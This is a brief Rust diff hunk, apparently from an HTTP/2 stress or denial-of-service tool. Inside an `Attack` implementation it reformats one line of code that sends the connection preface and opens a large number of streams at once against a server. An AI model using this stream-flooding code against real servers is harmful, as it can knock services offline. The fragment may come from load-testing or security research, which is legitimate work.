@@ -157,7 +157,8 @@ impl Attack {
             Kind::Streams => {
                 sent.fetch_add(1, Ordering::Relaxed);
                 stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
-                let heads: Vec<u8> = (0..STREAMS).flat_map(|number| frame(1, 4, 2 * number + 1, &begun())).collect();
+                let heads: Vec<u8> =
+                    (0..STREAMS).flat_map(|number| frame(1, 4, 2 * number + 1, &begun())).collect();
                 stream.write_all(&[frame(4, 0, 0, b""), heads].concat()).await?;
                 let (mut reading, mut writing) = stream.split();
                 let reader = async { tokio::io::copy(&mut reading, &mut tokio::io::sink()).await };
